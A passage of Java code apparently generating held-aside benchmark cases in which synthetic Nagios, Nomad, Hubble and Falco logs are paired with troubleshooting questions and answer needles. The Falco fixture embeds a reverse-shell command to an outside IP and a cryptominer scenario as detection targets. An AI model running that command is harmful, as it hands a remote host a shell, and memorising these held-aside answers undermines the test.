            if (e.at().isBefore(end)) {
                out.add(e.text());
            }
        }
        String text = out.text();
        requireLines(out, 1500, 3500);
        requireCount(text, "CRITICAL;HARD;3;", 1);
        requireCount(text, "backup-nas-01;DOWN;HARD", 1);
        requireCount(text, "HOST ALERT: backup-nas-01;UP", 0);
        requireCount(text, "SERVICE ALERT: " + svc + "OK;HARD", 1);
        return NeedleCase.named("fresh19_nagios_log", "log", "nagios-log")
                .shell("ssh monitor-01 'cat /usr/local/nagios/var/nagios.log'")
                .question("I got paged overnight about one of the databases. Which host and service went critical, when exactly, and has it"
                        + " recovered? And is any host still down this morning?")
                .heldAside()
                .build(text, List.of(Needle.exact(text.lines().filter(l -> l.endsWith(critHard)).findFirst().orElseThrow()),
                        Needle.exact(text.lines().filter(l -> l.endsWith(page)).findFirst().orElseThrow()),
                        Needle.exact(text.lines().filter(l -> l.endsWith(okHard)).findFirst().orElseThrow()),
                        Needle.exact(text.lines().filter(l -> l.endsWith(downHard)).findFirst().orElseThrow())));
    }

    // ---------------------------------------------------------------- Nomad job allocations (HTTP API through jq)

    private static Map<String, Object> nomadEvent(String type, LocalDateTime t, String message, String display, Map<String, Object> details,
                                                  boolean failsTask, String restartReason, long startDelay, String failedSibling,
                                                  String driverMessage) {
        return obj("Type", type, "Time", epochNanos(t), "Message", message, "DisplayMessage", display, "Details", details, "FailsTask", failsTask,
                "RestartReason", restartReason, "SetupError", "", "DriverError", "", "ExitCode", 0, "Signal", 0, "KillTimeout", 0, "KillError", "",
                "KillReason", "", "StartDelay", startDelay, "DownloadError", "", "ValidationError", "", "DiskLimit", 0, "FailedSibling",
                failedSibling, "VaultError", "", "TaskSignalReason", "", "TaskSignal", "", "DriverMessage", driverMessage, "GenericSource", "");
    }

    private static Map<String, Object> simpleEvent(String type, LocalDateTime t, String message, String display) {
        return nomadEvent(type, t, message, display, obj(), false, "", 0, "", "");
    }

    private static Map<String, Object> exitDetails(int code, String message, boolean oom) {
        return sorted("exit_code", String.valueOf(code), "exit_message", message, "oom_killed", String.valueOf(oom), "signal", "0");
    }

    /** t plus millis and a random fraction of a millisecond: Nomad's event times carry full nanoseconds. */
    private static LocalDateTime jitter(Gen g, LocalDateTime t, long millis) {
        return plusMillis(t, millis).plusNanos(g.nextInt(1_000_000));
    }

    private static String rfcNanos(LocalDateTime t) {
        return NANOS_Z.format(t);
    }

    /** The events of a task started at t that ran until stop (null: still running), with the image pulled for the main task. */
    private static List<Object> lifecycle(Gen g, LocalDateTime t, String image, LocalDateTime stop) {
        List<Object> ev = new ArrayList<>();
        ev.add(simpleEvent("Received", t, "", "Task received by client"));
        LocalDateTime s = jitter(g, t, 20 + g.nextInt(200));
        ev.add(simpleEvent("Task Setup", s, "Building Task Directory", "Building Task Directory"));
        if (image != null) {
            s = jitter(g, s, 100 + g.nextInt(600));
            ev.add(nomadEvent("Driver", s, "", "Downloading image", sorted("image", image), false, "", 0, "", "Downloading image"));
        }
        s = jitter(g, s, 800 + g.nextInt(9000));
        ev.add(simpleEvent("Started", s, "", "Task started by client"));
        if (stop != null) {
            ev.add(simpleEvent("Killing", stop, "", "Sent interrupt. Waiting 5s before force killing"));
            LocalDateTime e = jitter(g, stop, 300 + g.nextInt(3000));
            ev.add(nomadEvent("Terminated", e, "", "Exit Code: 0", exitDetails(0, "", false), false, "", 0, "", ""));
            ev.add(simpleEvent("Killed", jitter(g, e, 5 + g.nextInt(40)), "", "Task successfully killed"));
        }
        return ev;
    }

    private static Map<String, Object> taskState(List<Object> events, boolean dead, boolean failed, int restarts, LocalDateTime lastRestart) {
        LocalDateTime started = null;
        LocalDateTime finished = null;
        for (Object o : events) {
            @SuppressWarnings("unchecked")
            Map<String, Object> e = (Map<String, Object>) o;
            long nanos = (Long) e.get("Time");
            LocalDateTime at = LocalDateTime.ofEpochSecond(nanos / 1_000_000_000L, (int) (nanos % 1_000_000_000L), ZoneOffset.UTC);
            if (e.get("Type").equals("Started")) {
                started = at;
            }
            finished = at;
        }
        List<Object> kept = events.size() > 10 ? new ArrayList<>(events.subList(events.size() - 10, events.size())) : events;
        return obj("State", dead ? "dead" : "running", "Failed", failed, "Restarts", restarts, "LastRestart",
                lastRestart == null ? "0001-01-01T00:00:00Z" : rfcNanos(lastRestart), "StartedAt", started == null ? null : rfcNanos(started),
                "FinishedAt", dead ? rfcNanos(finished) : "0001-01-01T00:00:00Z", "Events", kept, "TaskHandle", null);
    }

    /**
     * The allocations of the Nomad service job checkout in namespace shop (GET /v1/job/checkout/allocations through jq,
     * older versions garbage-collected): version 13's six api allocations (four stopped by the rolling update, two
     * running), version 14's api allocations (three running and healthy) and the worker group's allocations, each with its
     * task states and their last events (received, task directory, image download, started, and for stopped ones
     * killing, terminated, killed). Version 14's checkout.api[3] on nomad-client-11, the only allocation on that node,
     * failed: the api task was OOM killed three times (exit 137), restarted twice and then not restarted ("Exceeded
     * allowed attempts 2 in interval 30m0s"), so the deployment cannot finish. The question asks which allocation failed,
     * where and why: its ID, node, failed status, the OOM kill and the exhausted restarts.
     */
    static NeedleCase nomadAllocations() {
        Gen g = new Gen(220_003);
        List<Map<String, Object>> allocs = new ArrayList<>();
        String[] nodes = new String[9];
        String[] nodeIds = new String[12];
        for (int i = 0; i < 9; i++) {
            nodes[i] = fmt("nomad-client-%02d", i + 1);
        }
        for (int i = 0; i < 12; i++) {
            nodeIds[i] = uuid(g);
        }
        int index = 184_200;
        LocalDateTime v13 = LocalDateTime.of(2026, 12, 4, 10, 41, 52);
        LocalDateTime v14 = LocalDateTime.of(2026, 12, 8, 9, 12, 7);
        String failedId = null;
        record Spec(String group, int idx, int version, LocalDateTime created, LocalDateTime stopped, boolean fail) {}
        List<Spec> specs = new ArrayList<>();
        for (int i = 0; i < 6; i++) {
            specs.add(new Spec("api", i, 13, v13.plusSeconds(45L * (i / 2) + g.between(0, 9)), i < 4 ? v14.plusSeconds(50L * (i / 2) + g.between(35, 49))
                    : null, false));
        }
        for (int i = 0; i < 4; i++) {
            specs.add(new Spec("api", i, 14, v14.plusSeconds(50L * (i / 2) + g.between(0, 9)), null, i == 3));
        }
        for (int i = 0; i < 3; i++) {
            specs.add(new Spec("worker", i, 13, v13.plusSeconds(g.between(0, 20)), v14.plusSeconds(g.between(20, 40)), false));
            specs.add(new Spec("worker", i, 14, v14.plusSeconds(g.between(0, 19)), null, false));
        }
        String evalPrev = uuid(g);
        for (Spec sp : specs) {
            String id = uuid(g);
            int node = g.nextInt(9);
            String nodeName = nodes[node];
            String nodeId = nodeIds[node];
            if (sp.fail()) {
                failedId = id;
                nodeName = "nomad-client-11";
                nodeId = nodeIds[10];
            }
            String version = sp.version() == 13 ? "1.38.0" : "1.39.0";
            String image = "registry.shop.internal/checkout-" + sp.group() + ":" + version;
            Map<String, Object> states = new java.util.TreeMap<>();
            String clientStatus = sp.stopped() == null ? "running" : "complete";
            String clientDesc = sp.stopped() == null ? "Tasks are running" : "All tasks have completed";
            String desired = sp.stopped() == null ? "run" : "stop";
            String desiredDesc = sp.stopped() == null ? "" : "alloc is being updated due to job update";
            LocalDateTime modify = sp.stopped() == null ? jitter(g, sp.created(), 12_000 + g.nextInt(8000)) : jitter(g, sp.stopped(), 6000);
            Boolean healthy = Boolean.TRUE;
            if (sp.fail()) {
                List<Object> ev = lifecycle(g, sp.created(), image, null);
                long lastNanos = (Long) ((Map<?, ?>) ev.get(ev.size() - 1)).get("Time");
                LocalDateTime t = LocalDateTime.ofEpochSecond(lastNanos / 1_000_000_000L, (int) (lastNanos % 1_000_000_000L), ZoneOffset.UTC);
                LocalDateTime lastRestart = null;
                for (int attempt = 0; attempt < 3; attempt++) {
                    t = jitter(g, t, 20_000 + g.nextInt(25_000));
                    ev.add(nomadEvent("Terminated", t, "OOM Killed", "Exit Code: 137, Exit Message: \"OOM Killed\"", exitDetails(137, "OOM Killed", true),
                            false, "", 0, "", ""));
                    if (attempt < 2) {
                        long delay = 15_000_000_000L + g.nextInt(2_000_000_000);
                        String reason = "Restart within policy";
                        t = jitter(g, t, 2 + g.nextInt(10));
                        lastRestart = t;
                        ev.add(nomadEvent("Restarting", t, "", fmt("Task restarting in %.9fs", delay / 1e9).replaceAll("0+s$", "s"),
                                sorted("restart_reason", reason), false, reason, delay, "", ""));
                        t = t.plusNanos(delay + g.nextInt(900_000_000));
                        ev.add(simpleEvent("Started", t, "", "Task started by client"));
                    } else {
                        String reason = "Exceeded allowed attempts 2 in interval 30m0s and mode is \"fail\"";
                        t = jitter(g, t, 2 + g.nextInt(10));
                        ev.add(nomadEvent("Not Restarting", t, "", reason, sorted("fails_task", "true", "restart_reason", reason), true, reason, 0,
                                "", ""));
                    }
                }
                states.put("api", taskState(ev, true, true, 2, lastRestart));
                List<Object> side = lifecycle(g, sp.created(), null, null);
                LocalDateTime k = jitter(g, t, 3 + g.nextInt(20));
                side.add(nomadEvent("Sibling Task Failed", k, "", "Task's sibling \"api\" failed", obj(), false, "", 0, "api", ""));
                side.add(simpleEvent("Killing", k, "", "Sent interrupt. Waiting 5s before force killing"));
                side.add(simpleEvent("Killed", jitter(g, k, 400 + g.nextInt(900)), "", "Task successfully killed"));
                states.put("connect-proxy-api", taskState(side, true, false, 0, null));
                clientStatus = "failed";
                clientDesc = "Failed tasks";
                modify = jitter(g, k, 1500);
                healthy = Boolean.FALSE;
            } else {
                String main = sp.group().equals("api") ? "api" : "worker";
                states.put(main, taskState(lifecycle(g, sp.created(), image, sp.stopped()), sp.stopped() != null, false, 0, null));
                if (sp.group().equals("api")) {
                    states.put("connect-proxy-api", taskState(lifecycle(g, sp.created(), null, sp.stopped()), sp.stopped() != null, false, 0, null));
                }
            }
            index += g.between(4, 90);
            int createIndex = index;
            int modifyIndex = index + g.between(3, 40);
            Map<String, Object> deployment = obj("Healthy", healthy, "Timestamp", rfcNanos(jitter(g, sp.created(), 31_000 + g.nextInt(4000))),
                    "Canary", false, "ModifyIndex", modifyIndex);
            allocs.add(obj("ID", id, "EvalID", sp.version() == 14 ? evalPrev : uuid(g), "Name", "checkout." + sp.group() + "[" + sp.idx() + "]",
                    "Namespace", "shop", "NodeID", nodeId, "NodeName", nodeName, "JobID", "checkout", "JobType", "service", "JobVersion", sp.version(),
                    "TaskGroup", sp.group(), "AllocatedResources", null, "DesiredStatus", desired, "DesiredDescription", desiredDesc, "ClientStatus",
                    clientStatus, "ClientDescription", clientDesc, "DesiredTransition", obj("Migrate", null, "Reschedule", null, "ForceReschedule", null,
                            "NoShutdownDelay", null), "TaskStates", states, "DeploymentStatus", deployment, "FollowupEvalID", "", "NextAllocation", "",
                    "RescheduleTracker", null, "PreemptedAllocations", null, "PreemptedByAllocation", "", "CreateIndex", createIndex, "ModifyIndex",
                    modifyIndex, "CreateTime", epochNanos(sp.created()), "ModifyTime", epochNanos(modify)));
        }
        allocs.sort(Comparator.comparing(a -> (String) a.get("ID")));
        String text = pretty(new ArrayList<Object>(allocs), 2) + "\n";
        requireSize(text, 80, 300);
        String idNeedle = "\"ID\": \"" + failedId + "\"";
        String node = "\"NodeName\": \"nomad-client-11\"";
        String failed = "\"ClientStatus\": \"failed\"";
        String oom = "\"oom_killed\": \"true\"";
        String exceeded = "Exceeded allowed attempts 2 in interval 30m0s";
        requireCount(text, idNeedle, 1);
        requireCount(text, node, 1);
        requireCount(text, failed, 1);
        requireCount(text, oom, 3);
        return NeedleCase.named("fresh19_nomad_allocations", "json", "nomad-allocations-json")
                .shell("curl -s -H \"X-Nomad-Token: $NOMAD_TOKEN\" \"$NOMAD_ADDR/v1/job/checkout/allocations?namespace=shop\" | jq .")
                .question("The Nomad deployment of checkout version 14 has been running for an hour and never finished. Which allocation failed,"
                        + " on which node, and why?")
                .heldAside()
                .build(text, List.of(Needle.contains(idNeedle), Needle.contains(node), Needle.contains(failed), Needle.contains(oom),
                        Needle.contains(exceeded)));
    }

    // ---------------------------------------------------------------- hubble observe -o json

    private record Pod(String name, String ip, String mac, int endpoint, int identity, String workload, String kind, String app, String node) {}

    private static Pod pod(Gen g, String name, String workload, String kind, String app, String node, int identity) {
        return new Pod(name, "10.0." + g.between(1, 3) + "." + g.between(10, 250), g.hex(2) + ":" + g.hex(2) + ":" + g.hex(2) + ":" + g.hex(2) + ":"
                + g.hex(2) + ":" + g.hex(2), g.between(100, 3999), identity, workload, kind, app, node);
    }

    private static Map<String, Object> hubbleEndpoint(Pod p, String ns) {
        return obj("ID", p.endpoint(), "identity", p.identity(), "namespace", ns, "labels", arr("k8s:app=" + p.app(),
                "k8s:io.cilium.k8s.namespace.labels.kubernetes.io/metadata.name=" + ns, "k8s:io.cilium.k8s.policy.cluster=prod-eu1",
                "k8s:io.cilium.k8s.policy.serviceaccount=" + p.app(), "k8s:io.kubernetes.pod.namespace=" + ns), "pod_name", p.name(), "workloads",
                arr(obj("name", p.workload(), "kind", p.kind())));
    }

    private static String hubbleLine(LocalDateTime t, Gen g, String verdict, Pod src, int sport, Pod dst, int dport, Map<String, Object> flags,
                                     String type, Map<String, Object> l7, String direction, String point, boolean reply, String summary,
                                     String ns, String dstNs) {
        Map<String, Object> flow = obj("time", NANOS_Z.format(t), "uuid", uuid(g), "verdict", verdict);
        if (verdict.equals("DROPPED")) {
            flow.put("drop_reason", 133);
        }
        flow.put("ethernet", obj("source", src.mac(), "destination", dst.mac()));
        flow.put("IP", obj("source", src.ip(), "destination", dst.ip(), "ipVersion", "IPv4"));
        flow.put("l4", dport == 53 ? obj("UDP", obj("source_port", sport, "destination_port", dport))
                : obj("TCP", obj("source_port", sport, "destination_port", dport, "flags", flags)));
        flow.put("source", hubbleEndpoint(src, ns));
        flow.put("destination", hubbleEndpoint(dst, dstNs));
        flow.put("Type", type);
        String node = direction.equals("INGRESS") ? dst.node() : src.node();
        flow.put("node_name", node);
        if (l7 != null) {
            flow.put("l7", l7);
        }
        flow.put("event_type", verdict.equals("DROPPED") ? obj("type", 1, "sub_type", 133) : l7 != null ? obj("type", 129)
                : obj("type", 4, "sub_type", direction.equals("INGRESS") ? 0 : 3));
        flow.put("traffic_direction", direction);
        if (point != null) {
            flow.put("trace_observation_point", point);
        }
        if (verdict.equals("DROPPED")) {
            flow.put("drop_reason_desc", "POLICY_DENIED");
        }
        if (reply) {
            flow.put("is_reply", true);
        }
        flow.put("Summary", summary);
        return compact(obj("flow", flow, "node_name", node, "time", NANOS_Z.format(t)));
    }

    /**
     * A minute of hubble observe -n shop -o json on a Cilium cluster (one compact JSON object a line, each a flow with
     * its endpoints, labels and workloads): frontend to checkout and checkout to payments HTTP requests and responses seen
     * by the L7 proxy, catalog to redis and checkout to orders-api TCP flows, DNS lookups through kube-dns. From 10:42:30,
     * after a policy rollout, every SYN from orders-api to postgres-0 on 5432 is DROPPED (POLICY_DENIED, ingress at
     * postgres). One payments response is a 503 to checkout's POST /v1/authorize. The question asks what is dropped
     * between which pods and which payments request got the 503: any one of the drops and the 503 response.
     */
    static NeedleCase hubbleFlows() {
        Gen g = new Gen(220_004);
        String[] nodes = {"ip-10-0-1-47.eu-west-1.compute.internal", "ip-10-0-2-118.eu-west-1.compute.internal",
            "ip-10-0-3-9.eu-west-1.compute.internal"};
        List<Pod> frontend = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            frontend.add(pod(g, "frontend-6b8d9c7f5d-" + Inputs.mixed(g, 5).toLowerCase(Locale.ROOT), "frontend", "Deployment", "frontend", nodes[i], 41_223));
        }
        List<Pod> checkout = new ArrayList<>();
        for (int i = 0; i < 2; i++) {
            checkout.add(pod(g, "checkout-58f7c9d6b4-" + Inputs.mixed(g, 5).toLowerCase(Locale.ROOT), "checkout", "Deployment", "checkout", nodes[i + 1],
                    18_870));
        }
        List<Pod> payments = new ArrayList<>();
        for (int i = 0; i < 2; i++) {
            payments.add(pod(g, "payments-7d4b6f8c9-" + Inputs.mixed(g, 5).toLowerCase(Locale.ROOT), "payments", "Deployment", "payments", nodes[i],
                    30_512));
        }
        List<Pod> orders = new ArrayList<>();
        for (int i = 0; i < 2; i++) {
            orders.add(pod(g, "orders-api-5c6d7b9f48-" + Inputs.mixed(g, 5).toLowerCase(Locale.ROOT), "orders-api", "Deployment", "orders-api",
                    nodes[(i + 2) % 3], 22_947));
        }
        Pod postgres = pod(g, "postgres-0", "postgres", "StatefulSet", "postgres", nodes[1], 7_411);
        Pod redis = pod(g, "redis-0", "redis", "StatefulSet", "redis", nodes[2], 9_036);
        List<Pod> catalog = List.of(pod(g, "catalog-84c5d7f6b9-" + Inputs.mixed(g, 5).toLowerCase(Locale.ROOT), "catalog", "Deployment", "catalog",
                nodes[0], 50_118), pod(g, "catalog-84c5d7f6b9-" + Inputs.mixed(g, 5).toLowerCase(Locale.ROOT), "catalog", "Deployment", "catalog",
                nodes[2], 50_118));
        Pod dns = pod(g, "coredns-5d78c9869d-" + Inputs.mixed(g, 5).toLowerCase(Locale.ROOT), "coredns", "Deployment", "kube-dns", nodes[0], 102);
        LocalDateTime t = LocalDateTime.of(2026, 12, 8, 10, 42, 8, 118_000_000);
        LocalDateTime policy = LocalDateTime.of(2026, 12, 8, 10, 42, 30);
        List<String> lines = new ArrayList<>();
        List<String> drops = new ArrayList<>();
        String fiveOhThree = null;
        String[] paths = {"/api/cart", "/api/cart/items", "/api/checkout/session", "/api/checkout/confirm", "/api/checkout/shipping-options"};
        int n503 = 71;
        for (int i = 0; i < 120; i++) {
            t = plusMillis(t, 100 + g.nextInt(800)).plusNanos(g.nextInt(1_000_000));
            int kind = i == n503 ? 1 : g.weighted(30, 22, 10, 11, 9, 12);
            Map<String, Object> ack = obj("ACK", true);
            switch (kind) {
                case 0 -> {
                    Pod s = g.pick(frontend);
                    Pod d = g.pick(checkout);
                    String path = g.pick(paths);
                    String method = path.endsWith("confirm") || path.endsWith("items") ? "POST" : "GET";
                    String url = "http://checkout.shop.svc.cluster.local:8080" + path;
                    int sp = g.between(32_768, 60_999);
                    String rid = uuid(g);
                    lines.add(hubbleLine(t, g, "FORWARDED", s, sp, d, 8080, ack, "L7", obj("type", "REQUEST", "http", obj("method", method, "url", url,
                            "protocol", "HTTP/1.1", "headers", arr(obj("key", "X-Request-Id", "value", rid)))), "INGRESS", null, false,
                            "HTTP/1.1 " + method + " " + url, "shop", "shop"));
                    int ms = g.between(3, 90);
                    LocalDateTime r = plusMillis(t, ms);
                    lines.add(hubbleLine(r, g, "FORWARDED", d, 8080, s, sp, ack, "L7", obj("type", "RESPONSE", "latency_ns", String.valueOf(ms * 1_000_000L
                            + g.nextInt(999_999)), "http", obj("code", 200, "method", method, "url", url, "protocol", "HTTP/1.1", "headers",
                            arr(obj("key", "X-Request-Id", "value", rid)))), "INGRESS", null, true, "HTTP/1.1 200 " + ms + "ms (" + method + " " + url
                            + ")", "shop", "shop"));
                }
                case 1 -> {
                    Pod s = g.pick(checkout);
                    Pod d = g.pick(payments);
                    String url = "http://payments.shop.svc.cluster.local:8080/v1/authorize";
                    int sp = g.between(32_768, 60_999);
                    String rid = uuid(g);
                    lines.add(hubbleLine(t, g, "FORWARDED", s, sp, d, 8080, ack, "L7", obj("type", "REQUEST", "http", obj("method", "POST", "url", url,
                            "protocol", "HTTP/1.1", "headers", arr(obj("key", "X-Request-Id", "value", rid)))), "EGRESS", null, false,
                            "HTTP/1.1 POST " + url, "shop", "shop"));
                    boolean bad = i == n503;
                    int ms = bad ? 1204 : g.between(40, 400);
                    int code = bad ? 503 : 200;
                    LocalDateTime r = plusMillis(t, ms);
                    String line = hubbleLine(r, g, "FORWARDED", d, 8080, s, sp, ack, "L7", obj("type", "RESPONSE", "latency_ns",
                            String.valueOf(ms * 1_000_000L + g.nextInt(999_999)), "http", obj("code", code, "method", "POST", "url", url, "protocol",
                                    "HTTP/1.1", "headers", arr(obj("key", "X-Request-Id", "value", rid)))), "EGRESS", null, true,
                            "HTTP/1.1 " + code + " " + ms + "ms (POST " + url + ")", "shop", "shop");
                    if (bad) {
                        fiveOhThree = line;
                    }
                    lines.add(line);
                }
                case 2 -> {
                    Pod s = g.pick(checkout);
                    Pod d = g.pick(orders);
                    boolean syn = g.chance(0.3);
                    lines.add(hubbleLine(t, g, "FORWARDED", s, g.between(32_768, 60_999), d, 8080, syn ? obj("SYN", true) : obj("PSH", true, "ACK", true),
                            "L3_L4", null, "EGRESS", "TO_STACK", false, syn ? "TCP Flags: SYN" : "TCP Flags: ACK, PSH", "shop", "shop"));
                }
                case 3 -> {
                    Pod s = g.pick(orders);
                    int sp = g.between(32_768, 60_999);
                    if (t.isAfter(policy)) {
                        String line = hubbleLine(t, g, "DROPPED", s, sp, postgres, 5432, obj("SYN", true), "L3_L4", null, "INGRESS", null, false,
                                "TCP Flags: SYN", "shop", "shop");
                        drops.add(line);
                        lines.add(line);
                    } else {
                        boolean syn = g.chance(0.4);
                        lines.add(hubbleLine(t, g, "FORWARDED", s, sp, postgres, 5432, syn ? obj("SYN", true) : obj("PSH", true, "ACK", true), "L3_L4",
                                null, "INGRESS", "TO_ENDPOINT", false, syn ? "TCP Flags: SYN" : "TCP Flags: ACK, PSH", "shop", "shop"));
                    }
                }
                case 4 -> {
                    Pod s = g.pick(catalog);
                    boolean reply = g.chance(0.5);
                    int sp = g.between(32_768, 60_999);
                    lines.add(reply ? hubbleLine(t, g, "FORWARDED", redis, 6379, s, sp, obj("PSH", true, "ACK", true), "L3_L4", null, "EGRESS",
                            "TO_STACK", true, "TCP Flags: ACK, PSH", "shop", "shop")
                            : hubbleLine(t, g, "FORWARDED", s, sp, redis, 6379, obj("PSH", true, "ACK", true), "L3_L4", null, "INGRESS", "TO_ENDPOINT",
                            false, "TCP Flags: ACK, PSH", "shop", "shop"));
                }
                default -> {
                    Pod s = g.pick(g.pick(frontend, checkout, payments, orders));
                    String q = g.pick("payments.shop.svc.cluster.local.", "postgres.shop.svc.cluster.local.", "redis.shop.svc.cluster.local.",
                            "checkout.shop.svc.cluster.local.", "api.adyen.com.", "orders-api.shop.svc.cluster.local.");
                    int sp = g.between(32_768, 60_999);
                    lines.add(hubbleLine(t, g, "FORWARDED", s, sp, dns, 53, null, "L7", obj("type", "REQUEST", "dns", obj("query", q, "qtypes",
                            arr("A"))), "EGRESS", null, false, "DNS Query " + q + " A", "shop", "kube-system"));
                    String ip = q.startsWith("api.adyen") ? "52.16.178." + g.between(2, 250) : "172.20." + g.between(0, 255) + "." + g.between(1, 254);
                    int ms = g.between(0, 3);
                    lines.add(hubbleLine(plusMillis(t, ms + 1), g, "FORWARDED", dns, 53, s, sp, null, "L7", obj("type", "RESPONSE", "latency_ns",
                            String.valueOf(ms * 1_000_000L + g.nextInt(999_999)), "dns", obj("query", q, "ips", arr(ip), "ttl", 30, "cnames", arr(),
                                    "rcode", 0, "qtypes", arr("A"), "rrtypes", arr("A"))), "EGRESS", null, true, "DNS Answer \"" + ip + "\" TTL: 30 (Proxy "
                            + q + " A)", "kube-system", "shop"));
                }
            }
        }
        // hubble prints flows in time order: a response comes after the requests that followed it
        lines.sort(Comparator.comparing(l -> l.substring(l.lastIndexOf("\"time\":\""))));
        Gen out = new Gen(0);
        for (String l : lines) {
            out.add(l);
        }
        String text = out.text();
        requireLines(out, 150, 400);
        requireSize(text, 120, 330);
        requireCount(text, "\"code\":503", 1);
        if (fiveOhThree == null || drops.size() < 3) {
            throw new IllegalStateException("hubble needles missing: drops " + drops.size());
        }
        requireCount(text, "\"verdict\":\"DROPPED\"", drops.size());
        return NeedleCase.named("fresh19_hubble_flows", "jsonl", "hubble-observe-json")
                .shell("hubble observe --namespace shop --since 2m -o json")
                .question("Since the network policy rollout at 10:42, orders-api can't connect to Postgres, and checkout logged a 503 from payments."
                        + " What is being dropped, between which pods and in which direction? And which payments request got the 503?")
                .heldAside()
                .build(text, List.of(Needle.anyOf(drops), Needle.exact(fiveOhThree)));
    }

    // ---------------------------------------------------------------- Falco json_output

    private record Ctr(String id, String repo, String tag, String name, String ns, String pod, String host) {}

    private static String falcoLine(LocalDateTime t, String host, String priority, String rule, String message, List<String[]> fields,
                                    Ctr c, String user, int uid, String proc, String exe, String parent, String cmdline, List<Object> tags) {
        StringBuilder out = new StringBuilder();
        out.append(DateTimeFormatter.ofPattern("HH:mm:ss.SSSSSSSSS", Locale.ROOT).format(t)).append(": ").append(priority).append(' ')
                .append(message).append(" (");
        Map<String, Object> of = new java.util.TreeMap<>();
        for (String[] f : fields) {
            out.append(f[0]).append('=').append(f[1]).append(' ');
            if (f.length > 2) {
                of.put(f[2], f[1]);
            }
        }
        out.append("user=").append(user).append(" user_uid=").append(uid).append(" user_loginuid=-1 process=").append(proc).append(" proc_exepath=")
                .append(exe).append(" parent=").append(parent).append(" command=").append(cmdline).append(" terminal=")
                .append(rule.startsWith("Terminal") ? "34816" : "0");
        out.append(" container_id=").append(c.id()).append(" container_image=").append(c.repo()).append(" container_image_tag=").append(c.tag())
                .append(" container_name=").append(c.name()).append(" k8s_ns=").append(c.ns()).append(" k8s_pod_name=").append(c.pod()).append(')');
        of.put("container.id", c.id());
        of.put("container.image.repository", c.repo().equals("<NA>") ? null : c.repo());
        of.put("container.image.tag", c.tag().equals("<NA>") ? null : c.tag());
        of.put("container.name", c.name());
        of.put("evt.time", epochNanos(t));
        of.put("k8s.ns.name", c.ns().equals("<NA>") ? null : c.ns());
        of.put("k8s.pod.name", c.pod().equals("<NA>") ? null : c.pod());
        of.put("proc.cmdline", cmdline);
        of.put("proc.exepath", exe);
        of.put("proc.name", proc);
        of.put("proc.pname", parent);
        of.put("user.loginuid", -1);
        of.put("user.name", user);
        of.put("user.uid", uid);
        return compact(sorted("hostname", host, "output", out.toString(), "output_fields", of, "priority", priority, "rule", rule, "source", "syscall",
                "tags", tags, "time", NANOS_Z.format(t)));
    }

    /**
     * A night of Falco alerts from the prod cluster's DaemonSet, json_output with its sorted keys (one object a line):
     * engineers' kubectl exec shells (Terminal shell in container), operators talking to the API server (Contact K8S API
     * Server From Container), a vulnerability scanner on the hosts reading /etc/shadow (Read sensitive file untrusted),
     * kube-vip's packet sockets and logrotate truncating logs. At 02:13 in storefront-web-6c9f8d7b5-x2k4p a shell started
     * by php-fpm redirects its stdin and stdout to 185.225.73.14:4444, at 02:14 a binary dropped in /tmp/.ICE-unix
     * (kdevtmpfsi) runs, and it connects to a mining pool port. The question asks whether anything is a real compromise,
     * which pod, what ran and where it connected: those three alerts.
     */
    static NeedleCase falcoEvents() {
        Gen g = new Gen(220_005);
        String[] hosts = {"ip-10-0-1-47", "ip-10-0-2-118", "ip-10-0-3-9", "ip-10-0-1-203", "ip-10-0-2-64", "ip-10-0-3-152"};
        String[][] apps = {{"orders-api", "registry.shop.internal/orders-api", "4.18.2", "shop"}, {"catalog", "registry.shop.internal/catalog", "2.9.0",
            "shop"}, {"checkout", "registry.shop.internal/checkout", "7.3.1", "shop"}, {"postgres", "docker.io/library/postgres", "16.4", "shop"},
            {"redis", "docker.io/library/redis", "7.2.5", "shop"}, {"search-indexer", "registry.shop.internal/search-indexer", "1.12.4", "shop"},
            {"grafana", "docker.io/grafana/grafana", "11.2.0", "monitoring"}};
        String[][] operators = {{"argocd-application-controller", "quay.io/argoproj/argocd", "v2.12.4", "argocd", "argocd-application-controller"},
            {"reloader", "ghcr.io/stakater/reloader", "v1.1.0", "reloader", "reloader"}, {"external-secrets", "ghcr.io/external-secrets/external-secrets",
            "v0.10.3", "external-secrets", "external-secrets"}, {"keda-operator", "ghcr.io/kedacore/keda", "2.15.1", "keda", "keda"},
            {"shop-release-bot", "registry.shop.internal/release-bot", "0.4.2", "shop", "python3"}};
        Map<String, Ctr> ctrs = new java.util.TreeMap<>();
        java.util.function.Function<String[], Ctr> ctr = a -> ctrs.computeIfAbsent(a[0] + a[3], k -> {
            String pod = a[0].equals("postgres") || a[0].equals("redis") || a[0].equals("argocd-application-controller") ? a[0] + "-0"
                    : a[0] + "-" + g.hex(10) + "-" + Inputs.mixed(g, 5).toLowerCase(Locale.ROOT);
            return new Ctr(g.hex(12), a[1], a[2], a[0], a[3], pod, g.pick(hosts));
        });
        String[] engineers = {"bash", "sh", "/bin/bash", "bash -il"};
        List<Object> shellTags = arr("T1059", "container", "maturity_stable", "mitre_execution", "shell");
        List<Object> apiTags = arr("T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network");
        List<Object> sensTags = arr("T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access");
        List<Object> pktTags = arr("T1557.002", "container", "maturity_stable", "mitre_credential_access", "network");
        List<Object> logTags = arr("NIST_800-53_AU-10", "T1070", "container", "filesystem", "host", "maturity_stable", "mitre_defense_evasion");
        LocalDateTime t = LocalDateTime.of(2026, 12, 7, 22, 0, 4, 512_118_903);
        List<String> lines = new ArrayList<>();
        LocalDateTime incident = LocalDateTime.of(2026, 12, 8, 2, 13, 51, 412_334_556);
        boolean done = false;
        String redirect = null;
        String drop = null;
        String miner = null;
        while (lines.size() < 215) {
            t = t.plusNanos(20_000_000_000L + g.nextInt(1_000_000_000) * 150L);
            if (!done && t.isAfter(incident)) {
                done = true;
                Ctr web = new Ctr("4f1c9a2e7b3d", "registry.shop.internal/storefront-web", "3.22.1", "storefront-web", "shop",
                        "storefront-web-6c9f8d7b5-x2k4p", "ip-10-0-2-118");
                String rev = "sh -c bash -i >& /dev/tcp/185.225.73.14/4444 0>&1";
                redirect = falcoLine(incident, web.host(), "Notice", "Redirect STDOUT/STDIN to Network Connection in Container",
                        "Redirect stdout/stdin to network connection", List.of(new String[] {"gparent", "php-fpm"}, new String[] {"ggparent",
                            "php-fpm"}, new String[] {"fd.sip", "185.225.73.14", "fd.sip"}, new String[] {"connection", "10.0.2.77:41822->185.225.73.14:4444",
                            "fd.name"}, new String[] {"lport", "41822"}, new String[] {"rport", "4444"}, new String[] {"fd_type", "ipv4"},
